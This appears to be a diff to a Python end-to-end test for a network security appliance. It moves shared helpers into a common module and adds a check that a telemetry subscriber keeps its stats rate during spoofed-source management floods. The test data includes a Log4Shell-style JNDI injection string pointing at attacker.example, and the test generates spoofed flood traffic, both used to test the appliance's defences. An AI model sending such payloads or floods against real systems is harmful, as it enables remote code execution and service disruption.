@@ -21,18 +21,15 @@ import argparse
 import json
 import os
 import random
-import shutil
 import socket
 import struct
 import subprocess
 import sys
-import tempfile
 import threading
 import time
 
-HERE = os.path.dirname(os.path.abspath(__file__))
-ROOT = os.path.normpath(os.path.join(HERE, '..', '..'))
-sys.path.insert(0, os.path.join(ROOT, 'scripts'))
+import e2e_common
+from e2e_common import ROOT
 
 CLIENT_IP, SERVER_IP, APPLIANCE_IP = '10.0.0.10', '10.0.0.20', '10.0.0.2'
 HTTP_PORT, BLOCKED_PORT, OPEN_PORT, UDP_PORT, MGMT_PORT = 80, 2222, 2223, 9999, 7400
@@ -64,15 +61,8 @@ UDP_INJECT = b'log line 0001 user=${jndi:ldap://attacker.example/a} end of recor
 UDP_MARK = b'${jndi:'
 UDP_BENIGN = b'log line 0001 user=$(plain-user-name-12345678) end of record......'
 
-results = {'bootargs': BOOTARGS, 'checks': [], 'cases': [], 'floods': [], 'mgmt': {}}
-
-
-def check(phase, name, ok, required=True, **figures):
-    """One recorded check. `required=False` rows are reported (info) and never fail the run."""
-    results['checks'].append({'phase': phase, 'name': name, 'ok': bool(ok), 'required': required, **figures})
-    tag = ('ok  ' if ok else 'FAIL') if required else ('info' if ok else 'info-no')
-    print('%s [%s] %s %s' % (tag, phase, name, json.dumps(figures, default=str) if figures else ''), flush=True)
-    return ok
+results = e2e_common.new_results(bootargs=BOOTARGS, cases=[], floods=[], mgmt={})
+check = e2e_common.checker(results)  # check(..., required=False): reported (info), never fails the run
 
 
 # =============================================================================================
@@ -688,36 +678,74 @@ def secctl_pings(env, n, gap=0.0):
     return ok
 
 
+TELEMETRY_MESSAGES, TELEMETRY_MS = 20, 250
+
+
+class Subscriber(threading.Thread):
+    """An existing telemetry subscriber: `secctl stats` on its own channel (3) at 250 ms, which
+    exits after TELEMETRY_MESSAGES stats messages; `rate` is messages per second over its life
+    (subscribe included), None when it failed."""
+    def __init__(self, env):
+        super().__init__(daemon=True)
+        self.env, self.rate, self.seconds, self.rc = env, None, None, None
+
+    def run(self):
+        t0 = time.time()
+        r = self.env.topo.client(self.env.secctl, '--appliance', '%s:%d' % (APPLIANCE_IP, MGMT_PORT), '--channel', '3',
+                                 '--interval', str(TELEMETRY_MS), '--count', str(TELEMETRY_MESSAGES), '--seconds', '30',
+                                 'stats', '--json', timeout=60)
+        self.seconds, self.rc = round(time.time() - t0, 2), r.returncode
+        if r.returncode == 0:
+            self.rate = round(TELEMETRY_MESSAGES / self.seconds, 2)
+
+
 def case_mgmt(env, name, pps=1000):
     """10 fresh `secctl ping` before, and during 1,000 unauthenticated datagrams/s from random
-    spoofed sources and from one source (the flood address 10.0.0.66)."""
+    spoofed sources and from one source (the flood address 10.0.0.66); beside them a telemetry
+    subscriber (20 stats messages at 250 ms) whose rate during each flood must stay >= 90 % of
+    its rate without one."""
+    sub = Subscriber(env)
+    sub.start()
     before = secctl_pings(env, 10)
+    sub.join(60)
     check('mgmt', '10 fresh secctl ping without a flood succeed', before == 10, succeeded=before)
+    check('mgmt', 'telemetry subscriber without a flood: %d stats messages at %d ms' % (TELEMETRY_MESSAGES, TELEMETRY_MS),
+          sub.rate is not None, rate_per_s=sub.rate, seconds=sub.seconds, rc=sub.rc)
+    rate_before = sub.rate
     neigh = env.topo.client('ip', 'neigh', 'show', APPLIANCE_IP).stdout.split()
     mac = neigh[neigh.index('lladdr') + 1] if 'lladdr' in neigh else 'ff:ff:ff:ff:ff:ff'
-    results['mgmt'] = {'pings_before': before, 'floods': []}
+    results['mgmt'] = {'pings_before': before, 'telemetry_rate_before': rate_before, 'floods': []}
     for sources in ('random', 'single'):
         seconds = 8
         fl = env.topo.popen('client', sys.executable, '-u', os.path.abspath(__file__), '--mgmt-flood', str(seconds), str(pps), mac, sources,
                             stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
-        time.sleep(1.0)
+        time.sleep(0.5)
+        sub = Subscriber(env)  # subscribed as the flood runs: 20 messages = ~5 s, inside the 8 s flood
+        sub.start()
+        time.sleep(0.5)
         st0 = env.topo.qemu.stats()
         t0 = time.time()
         during = secctl_pings(env, 10, gap=0.5)  # spread over ~6 s of the flood, not one limiter window
         t1 = time.time()
+        sub.join(60)
         st1 = env.topo.qemu.stats()
         out, _ = fl.communicate(timeout=seconds + 20)
         parts = out.split()
         sent, secs = (int(parts[0]), float(parts[1])) if len(parts) >= 2 and parts[0].isdigit() else (0, float(seconds))
         row = {'sources': sources, 'flood_pps_target': pps, 'flood_datagrams': sent, 'flood_seconds': secs,
                'flood_pps_measured': round(sent / secs) if secs else 0, 'pings_during': during,
-               'pings_seconds': round(t1 - t0, 1), 'kernel_mgmt_delta': st1.get('mgmt', 0) - st0.get('mgmt', 0)}
+               'pings_seconds': round(t1 - t0, 1), 'kernel_mgmt_delta': st1.get('mgmt', 0) - st0.get('mgmt', 0),
+               'telemetry_rate': sub.rate, 'telemetry_seconds': sub.seconds}
         results['mgmt']['floods'].append(row)
         print('info [mgmt] %s sources: %d unauthenticated datagrams in %.1f s (%d/s), 10 pings took %.1f s' % (
             sources, sent, secs, row['flood_pps_measured'], t1 - t0), flush=True)
         check('mgmt', '%d unauthenticated datagrams/s at UDP %d from %s sources: 10/10 fresh secctl ping succeed'
               % (pps, MGMT_PORT, 'random spoofed' if sources == 'random' else 'one spoofed'), during == 10,
               succeeded=during, flood_pps_measured=row['flood_pps_measured'])
+        check('mgmt', '%d unauthenticated datagrams/s from %s sources: the telemetry subscriber keeps >= 90%% of its rate'
+              % (pps, 'random spoofed' if sources == 'random' else 'one spoofed'),
+              sub.rate is not None and rate_before is not None and sub.rate >= 0.9 * rate_before,
+              rate_per_s=sub.rate, rate_before_per_s=rate_before, seconds=sub.seconds, rc=sub.rc)
 
 
 # =============================================================================================
@@ -732,6 +760,7 @@ def main():
     ap.add_argument('--results', default=None)
     ap.add_argument('--secctl', default=os.path.join(ROOT, 'build', 'host', 'apps', 'secctl', 'secctl'))
     ap.add_argument('--keep', action='store_true', help='keep the work directory (judge log)')
+    ap.add_argument('--bootargs', default=BOOTARGS, help='kernel command line (default %(default)s; e.g. add syn_budget=N)')
     ap.add_argument('--list', action='store_true', help='list the cases and exit')
     ap.add_argument('--judge', metavar='LOG', help=argparse.SUPPRESS)
     ap.add_argument('--sender', action='store_true', help=argparse.SUPPRESS)
@@ -759,28 +788,25 @@ def main():
             return 2
     else:
         chosen = [n for n, default, _ in CASES if default or full] + ['flood', 'mgmt']
-    if os.geteuid() != 0:
-        print('SKIP: evasion e2e tests need root (network namespaces, TAP devices); run `sudo make e2e`')
-        return 77
+    rc = e2e_common.preflight('evasion e2e tests', ('hping3', 'curl', 'iptables', 'ip'))
+    if rc is not None:
+        return rc
     if not scapy_python():
         print('FAIL: python3-scapy missing (make deps installs it)')
         return 1
-    missing = [t for t in ('hping3', 'curl', 'iptables', 'ip') if not shutil.which(t)]
-    if missing or not a.elf:
-        print('FAIL: missing tools %s or kernel image (make deps installs the tools)' % missing)
+    if not a.elf:
+        print('FAIL: no kernel image given')
         return 1
     if not os.path.exists(a.secctl) and ('blocked_port' in chosen or 'mgmt' in chosen):
         print('note: %s not built: blocked_port and mgmt skipped (build the host tree first)' % a.secctl)
         chosen = [c for c in chosen if c not in ('blocked_port', 'mgmt')]
     import e2e_topology
-    work = tempfile.mkdtemp(prefix='secengine-evasion-')
-    results.update({'elf': a.elf, 'work': work, 'full': full, 'cases_run': chosen,
-                    'date': time.strftime('%Y-%m-%d %H:%M:%S UTC', time.gmtime())})
-    t0 = time.time()
+    results.update({'elf': a.elf, 'full': full, 'cases_run': chosen, 'bootargs': a.bootargs})
     env = Env()
     env.secctl, env.ports = a.secctl, Ports()
-    try:
-        with e2e_topology.Topology(a.elf, None, BOOTARGS, log_dir=work) as topo:
+
+    def body(work):
+        with e2e_topology.Topology(a.elf, None, a.bootargs, log_dir=work) as topo:
             env.topo = topo
             results['ready'] = topo.qemu.ready.group(0)
             print(results['ready'], flush=True)
@@ -804,24 +830,8 @@ def main():
             finally:
                 env.sender.close()
             results['final_stats'] = topo.qemu.stats()
-    except Exception as e:  # a broken step is a failed check, and the topology is already down
-        check('setup', 'run completed', False, error='%s: %s' % (type(e).__name__, e))
-    results['seconds'] = round(time.time() - t0, 1)
-    failed = [c for c in results['checks'] if not c['ok'] and c['required']]
-    results['passed'] = sum(1 for c in results['checks'] if c['ok'] and c['required'])
-    results['failed'] = len(failed)
     out = a.results or os.path.join(ROOT, 'build', 'evasion_results.json')
-    os.makedirs(os.path.dirname(os.path.abspath(out)), exist_ok=True)
-    with open(out, 'w') as f:
-        json.dump(results, f, indent=1, default=str)
-    print('%d checks, %d failed, %.0f s; results in %s' % (len(results['checks']), len(failed), results['seconds'], out))
-    for c in failed:
-        print('FAIL [%s] %s %s' % (c['phase'], c['name'], c.get('server_received', '')))
-    if not a.keep:
-        shutil.rmtree(work, ignore_errors=True)
-    else:
-        print('work directory kept: %s' % work)
-    return 1 if failed else 0
+    return e2e_common.run(results, check, 'secengine-evasion-', body, out, a.keep)
 
 
 if __name__ == '__main__':
